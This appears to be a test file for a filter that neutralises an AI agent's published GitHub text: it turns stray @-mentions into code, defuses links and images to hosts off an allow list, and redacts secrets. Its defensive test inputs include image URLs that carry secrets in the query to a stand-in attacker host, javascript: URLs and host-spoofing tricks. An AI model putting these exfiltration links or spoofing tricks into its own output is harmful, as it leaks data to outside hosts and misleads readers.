import { describe, expect, it } from "vitest";
import { SLOW_TEXTS } from "../bench/neutralise.js";
import { publishableText } from "../src/action/admitted-run.js";
import { DEFAULT_DOMAINS, hostAllowed } from "../src/base/allowed-domains.js";
import { neutralise } from "../src/text/neutralise.js";
import { createRedactor } from "../src/text/redact.js";

/**
 * What the agent writes is published with the action's identity: nobody but the requester is
 * pinged, and nothing renders a link or an image to a host the workflow did not allow.
 */

const rules = {
  requester: "Octocat",
  linkAllowed: (host: string) => hostAllowed(host, [...DEFAULT_DOMAINS, "docs.example.org"], "github.com"),
};
const n = (text: string) => neutralise(text, rules);

describe("mentions", () => {
  it("shows a mention of someone else as code, so nobody is notified", () => {
    expect(n("Thanks @hubot for the report.")).toBe("Thanks `@hubot` for the report.");
  });

  it("shows a team mention whole as code", () => {
    expect(n("cc @octo-org/security-team please")).toBe("cc `@octo-org/security-team` please");
  });

  it("keeps the requester's mention, whatever its case", () => {
    expect(n("Done, @octocat and @OCTOCAT.")).toBe("Done, @octocat and @OCTOCAT.");
  });

  it("does not keep a team whose organisation is named like the requester", () => {
    expect(n("@octocat/admins")).toBe("`@octocat/admins`");
  });

  it("neutralises every mention when no requester is known", () => {
    expect(neutralise("@octocat", { linkAllowed: () => true })).toBe("`@octocat`");
  });

  it("leaves email addresses alone: they are not mentions", () => {
    const text = "Write to first.last@example.com or ops-team@lists.example.org.";
    expect(n(text)).toBe(text);
  });

  it("neutralises mentions at the start of a line, in emphasis, in lists and after a backslash", () => {
    expect(n("@hubot\n- **@hubot**\n_@hubot_ \\@hubot")).toBe(
      "`@hubot`\n- **`@hubot`**\n_`@hubot`_ \\ `@hubot`",
    );
  });

  it("finds mentions spelled with character references, which GitHub shows as plain text", () => {
    expect(n("&#64;hubot &commat;hubot @&#104;ubot &#x40;octocat")).toBe(
      "`@hubot` `@hubot` `@hubot` @octocat",
    );
  });

  it("leaves mentions in code spans and fenced code as they are", () => {
    const text = "Run `npm i @types/node` then:\n\n```sh\necho @hubot https://evil.example/x.png\n```\n";
    expect(n(text)).toBe(text);
  });

  it("shows a mention as a <code> element in lines that may be raw HTML, where backticks mean nothing", () => {
    expect(n("<div>\n@hubot\n</div>")).toBe("<div>\n<code>&#64;hubot</code>\n</div>");
  });
});

describe("links and images", () => {
  it("defuses an image on another host: its address shown as code", () => {
    expect(n("![chart](https://evil.example/p.png?d=secret)")).toBe(
      "![chart] (`https://evil.example/p.png?d=secret`)",
    );
  });

  it("defuses a link on another host, keeping its text", () => {
    expect(n("See [the report](https://evil.example/r).")).toBe(
      "See [the report] (`https://evil.example/r`).",
    );
  });

  it("keeps links to the GitHub server, its subdomains and allowed domains, with ports", () => {
    const text =
      "[pr](https://github.com/o/r/pull/1) ![img](https://raw.githubusercontent.com/o/r/main/a.png) " +
      "[api](https://api.github.com:443/x) [docs](https://docs.example.org/guide) [sub](https://a.docs.example.org/)";
    expect(n(text)).toBe(text);
  });

  it("keeps relative links and anchors", () => {
    const text = "[guide](docs/guide.md), [top](#usage), [up](../README.md), [root](/o/r/blob/main/x.ts)";
    expect(n(text)).toBe(text);
  });

  it("does not take a domain that only ends like an allowed one", () => {
    expect(n("[x](https://notgithub.com/a) [y](https://github.com.evil.example/a)")).toBe(
      "[x] (`https://notgithub.com/a`) [y] (`https://github.com.evil.example/a`)",
    );
  });

  it("reads the host after user information, not before it", () => {
    expect(n("[x](https://github.com@evil.example/a) [y](https://github.com:pw@evil.example/)")).toBe(
      "[x] (`https://github.com@evil.example/a`) [y] (`https://github.com:pw@evil.example/`)",
    );
  });

  it("defuses protocol-relative and backslash addresses, which name a host of their own", () => {
    expect(n("![a](//evil.example/a.png) ![b](\\\\evil.example/b.png)")).toBe(
      "![a] (`//evil.example/a.png`) ![b] (`\\\\evil.example/b.png`)",
    );
  });

  it("defuses javascript:, data: and mailto: addresses, in any case", () => {
    expect(
      n("[a](javascript:alert(1)) ![b](data:image/png;base64,AAAA) [c](JAVASCRIPT:x) [d](mailto:a@b.c)"),
    ).toBe(
      "[a] (`javascript:alert(1)`) ![b] (`data:image/png;base64,AAAA`) [c] (`JAVASCRIPT:x`) [d] (`mailto:a@b.c`)",
    );
  });

  it("reads upper-case schemes and hosts as a browser does", () => {
    expect(n("![a](HTTPS://EVIL.EXAMPLE/A.PNG) [b](HTTPS://GITHUB.COM/O)")).toBe(
      "![a] (`HTTPS://EVIL.EXAMPLE/A.PNG`) [b](HTTPS://GITHUB.COM/O)",
    );
  });

  it("reads character references and backslash escapes in an address before judging it", () => {
    expect(
      n("[a](https&#58;//evil.example) [b](https:&#x2F;&#x2F;evil.example) [c](https:\\/\\/evil.example)"),
    ).toBe("[a] (`https://evil.example`) [b] (`https://evil.example`) [c] (`https:\\/\\/evil.example`)");
  });

  it("breaks a link it cannot read, so GitHub cannot read one there either", () => {
    const deep = `${"(".repeat(40)}x${")".repeat(40)}`;
    expect(n(`[a](//evil.example/${deep}) [b](https://github.com/ x y z)`)).toBe(
      `[a] (//evil.example/${deep}) [b] (https://github.com/ x y z)`,
    );
  });

  it("defuses an address holding a character reference it cannot read", () => {
    expect(n("[a](https://github.com/&NotARealOne;x)")).toBe("[a] (`https://github.com/&NotARealOne;x`)");
  });

  it("keeps the link but drops a title, and takes addresses in angle brackets", () => {
    expect(n('[a](<https://github.com/o r> "hi @hubot") [b](<https://evil.example/x y>)')).toBe(
      "[a](<https://github.com/o r>) [b] (`https://evil.example/x y`)",
    );
  });

  it("defuses a link whose address holds a backtick, which would change what GitHub pairs as code", () => {
    expect(n("[x](https://github.com/a`) and `@hubot`")).toBe(
      "[x] (`` https://github.com/a` ``) and `@hubot`",
    );
  });

  it("defuses reference definitions on other hosts, so their references stay text", () => {
    expect(
      n("See [the chart][c] ![pic][p].\n\n[c]: https://evil.example/c\n[p]: <https://github.com/p.png>"),
    ).toBe(
      "See [the chart][c] ![pic][p].\n\n\\[c]: `https://evil.example/c`\n[p]: <https://github.com/p.png>",
    );
  });

  it("defuses a definition whose address is on the next line, or inside a block quote", () => {
    expect(n("[c]:\n  //evil.example/c\n> [d]: https://evil.example/d")).toBe(
      "\\[c]:\n  `//evil.example/c`\n> \\[d]: `https://evil.example/d`",
    );
  });

  it("defuses autolinks in angle brackets on other hosts and keeps email autolinks", () => {
    expect(n("<https://evil.example/x> <https://github.com/x> <ops@example.com>")).toBe(
      "`https://evil.example/x` <https://github.com/x> <ops@example.com>",
    );
  });

  it("defuses bare addresses GitHub would link, leaving the punctuation after them", () => {
    expect(n("Look at https://evil.example/a, HTTP://EVIL.EXAMPLE and www.evil.example.")).toBe(
      "Look at `https://evil.example/a`, `HTTP://EVIL.EXAMPLE` and `www.evil.example`.",
    );
  });

  it("finds bare addresses spelled with character references", () => {
    expect(n("https&#58;&#47;&#47;evil.example/x and &#119;ww.evil.example")).toBe(
      "`https://evil.example/x` and `www.evil.example`",
    );
  });

  it("keeps bare addresses on allowed hosts", () => {
    const text =
      "Logs: https://github.com/o/r/actions/runs/1 and https://pypi.org/project/x/ (see www.github.com).";
    expect(n(text)).toBe(text);
  });

  it("defuses a bare address whose host is hidden behind user information or a table pipe", () => {
    expect(n("https://github.com@evil.example/x and https://github.com|:pw@evil.example/")).toBe(
      "`https://github.com@evil.example/x` and `https://github.com%7C:pw@evil.example/`",
    );
  });

  it("defuses HTML images and links on other hosts, quoted or not, and keeps allowed ones", () => {
    expect(
      n(
        'Here: <img src="https://evil.example/a.png" width=10> <img src=https://evil.example/b.png> ' +
          "<a href='https://github.com/o'>ok</a> <a HREF=\"javascript:alert(1)\">x</a>",
      ),
    ).toBe(
      "Here: `https://evil.example/a.png` `https://evil.example/b.png` " +
        "<a href='https://github.com/o'>ok</a> `javascript:alert(1)`x</a>",
    );
  });

  it("checks every address of a srcset and a tag written over several lines", () => {
    expect(
      n('A <picture><source srcset="https://github.com/a.png 1x, //evil.example/b.png 2x"></picture>'),
    ).toBe("A <picture>`//evil.example/b.png`</picture>");
    expect(n('An image: <img\nsrc="//evil.example/x.png">')).toBe("An image: `//evil.example/x.png`");
  });

  it("checks HTML in raw HTML blocks, writing addresses as <code> elements", () => {
    expect(n('<p align="center">\n  <img src="https://evil.example/logo.png">\n</p>')).toBe(
      '<p align="center">\n  <code>https&#58;&#47;&#47;evil&#46;example&#47;logo&#46;png</code>\n</p>',
    );
  });

  it("checks a fence inside a raw HTML block, which GitHub does not show as code", () => {
    expect(n('<div>\n```\n<img src="https://evil.example/x.png"> @hubot\n```\n</div>')).toBe(
      "<div>\n&#96;&#96;&#96;\n<code>https&#58;&#47;&#47;evil&#46;example&#47;x&#46;png</code> <code>&#64;hubot</code>\n&#96;&#96;&#96;\n</div>",
    );
  });

  it("leaves addresses in code spans and fenced code as they are", () => {
    const text =
      "Fetch `https://evil.example/x` like this:\n\n~~~\ncurl https://evil.example/x\n<img src=//e.example>\n~~~\n";
    expect(n(text)).toBe(text);
  });
});

describe("reading Markdown as GitHub does", () => {
  it("escapes a backtick that opens no code span, so a later one cannot pair with it", () => {
    expect(n("a `` b ![x](https://evil.example/a.png) `c")).toBe(
      "a \\`\\` b ![x] (`https://evil.example/a.png`) \\`c",
    );
  });

  it("pairs backticks as GitHub does: after a backslash escape, and over other Markdown", () => {
    for (const text of [
      "a \\`b` ![x](https://evil.example/a.png) `",
      "a ` b ![x](https://evil.example/a.png) `c",
    ]) {
      expect(n(text)).toBe(text);
    }
  });

  it("does not trust a code span split by a table's cells", () => {
    expect(n("| a | b |\n|---|---|\n| x `| https://evil.example |` |")).toBe(
      "| a | b |\n|---|---|\n| x \\`| `https://evil.example` |\\` |",
    );
  });

  it("does not trust a code span split by the cells of a table in a block quote", () => {
    expect(n("> | a |\n> |---|\n> | `x | @hubot` |")).toBe("> | a |\n> |---|\n> | \\`x | `@hubot`\\` |");
  });

  it("keeps a code span with a pipe outside tables", () => {
    const text = "Run `ls | grep @hubot` first.";
    expect(n(text)).toBe(text);
  });

  it("reads a bare address as GitHub links it: over backticks, to the next space", () => {
    expect(n("see https://github.com/x`a b` @hubot `c`")).toBe("see https://github.com/x `a b` `@hubot` `c`");
  });

  it("reads a bare address inside a link's text as text, where GitHub does not link it", () => {
    expect(
      n("[a https://github.com/x](//evil.example) [b https://github.com/@hubot](https://github.com)"),
    ).toBe(
      "[a https://github.com/x] (`//evil.example`) [b https://github.com/ `@hubot`](https://github.com)",
    );
  });

  it("ends a kept link's address where it ends, were GitHub to read it as a bare address", () => {
    expect(n("[docs](https://github.com/x). [d](https://github.com/x)x```<a>```")).toBe(
      "[docs](https://github.com/x). [d](https://github.com/x) x```<a>```",
    );
  });

  it("takes a mention right after code or another mention as GitHub does: its text starts afresh", () => {
    expect(n("`x`@hubot and @hubot@hubot, but not a@hubot")).toBe(
      "`x` `@hubot` and `@hubot` `@hubot`, but not a@hubot",
    );
  });

  it("does not trust bare addresses in raw HTML, where GitHub links none and a mention after one pings", () => {
    expect(n('<div>\nhttps://github.com/x"@hubot\n</div>')).toBe(
      '<div>\nhttps://github.com/x" <code>&#64;hubot</code>\n</div>',
    );
  });

  it("writes code in raw HTML lines with every punctuation mark as a reference, so no Markdown survives in it", () => {
    expect(n("<p>\n[![i](https://evil.example/i.png)](https://github.com)\n</p>")).toBe(
      "<p>\n[![i] (<code>https&#58;&#47;&#47;evil&#46;example&#47;i&#46;png</code>)](https://github.com)\n</p>",
    );
  });

  it("keeps the code it writes apart from code spans next to it", () => {
    expect(n("`x`@hubot`y`")).toBe("`x` `@hubot` `y`");
  });

  it("does not trust a code span that runs over a line end: GitHub may end the block there", () => {
    expect(n("- one `@hubot\n- two` @hubot")).toBe("- one \\` `@hubot`\n- two\\` `@hubot`");
  });

  it("treats an unclosed fence, and every fence after it, as prose", () => {
    expect(n("~~~~\n@hubot\n```\n@hubot\n```")).toBe("~~~~\n`@hubot`\n\\`\\`\\`\n`@hubot`\n\\`\\`\\`");
  });

  it("does not trust a fence whose lines leave its list item", () => {
    expect(n("1. step\n   ```\n@hubot\n   ```")).toBe("1. step\n   \\`\\`\\`\n`@hubot`\n   \\`\\`\\`");
  });

  it("trusts a fence indented inside its list item", () => {
    const text = "1. step\n\n   ```sh\n   npm i @scope/pkg\n   ```\n";
    expect(n(text)).toBe(text);
  });

  it("shows HTML holding a backtick as text, so its backticks pair as GitHub pairs them", () => {
    expect(n('See <a title="`">x</a> @hubot `')).toBe('See &lt;a title="`">x</a> @hubot `');
  });

  it("comes back unchanged when there is nothing to neutralise, and is stable when run twice", () => {
    const text =
      "## Fixed\n\nThe date test used `new Date()`; see [the docs](https://github.com/o/r#dates).\n";
    expect(n(text)).toBe(text);
    const once = n("@hubot ![x](https://evil.example/x.png) <img src=//evil.example> a ` b");
    expect(n(once)).toBe(once);
  });

  // How long they take is the benchmark's (`npm run bench`, neutralise_worst_ms); here, that
  // each is read to its end and nothing of it passes as a link or a mention.
  it.each(SLOW_TEXTS.map((text) => [text.slice(0, 24), text]))(
    "reads a long text made to be slow to read (%s…) to its end, leaving no live mention",
    (_, text) => {
      const out = n(text);
      expect(out.length).toBeGreaterThanOrEqual(text.length);
      expect(out).not.toMatch(/(^|\s)@a(\s|$)/);
    },
  );
});

describe("publishableText", () => {
  const secret = "sk-test-0123456789abcdefghij";
  const publishable = publishableText(
    { actor: { login: "octocat", type: "User" } },
    { allowedDomains: ["docs.example.org"] },
    { serverUrl: "https://ghe.example.com" },
    createRedactor([secret]),
  );

  it("redacts, keeps the requester and the GitHub server's own host, and defuses the rest", () => {
    expect(
      publishable(
        `@octocat @hubot key ${secret} [run](https://ghe.example.com/o/r/actions/runs/1) ` +
          "![x](https://evil.example/x.png) [d](https://docs.example.org/)",
      ),
    ).toBe(
      "@octocat `@hubot` key *** [run](https://ghe.example.com/o/r/actions/runs/1) " +
        "![x] (`https://evil.example/x.png`) [d](https://docs.example.org/)",
    );
  });

  it("redacts before neutralising, so a secret in an address is masked in the code shown", () => {
    expect(publishable(`![x](https://evil.example/?k=${secret})`)).toBe(
      "![x] (`https://evil.example/?k=***`)",
    );
  });
});
